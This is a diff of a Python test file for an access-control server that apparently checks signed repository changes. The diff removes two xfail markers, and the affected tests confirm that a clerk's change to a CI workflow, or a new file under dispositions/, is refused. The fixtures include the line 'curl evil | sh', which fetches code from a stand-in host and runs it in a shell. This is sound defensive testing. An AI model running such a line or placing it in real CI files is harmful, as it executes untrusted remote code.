@@ -173,13 +173,11 @@ def test_removed_person_signs_after_a_rollback_merge(server: Path, repo: Path, k
     refused(repo, server, "UNKNOWN_KEY")
 
 
-@xfail("the default policy lets either doc-control change CI files (defaults.policy_yaml)")
 def test_ci_workflow_by_the_clerk(server: Path, repo: Path, keys: Keys) -> None:
     zhao_writes(repo, keys, ".github/workflows/x.yml", b"run: curl evil | sh\n")
     refused(repo, server, "UNAUTHORIZED_CHANGE")
 
 
-@xfail("nothing new under dispositions/ is judged (judge.judged_paths)")
 def test_anything_under_dispositions(server: Path, repo: Path, keys: Keys) -> None:
     zhao_writes(repo, keys, "dispositions/payload.sh", b"curl evil | sh\n")
     refused(repo, server, "UNAUTHORIZED_CHANGE")
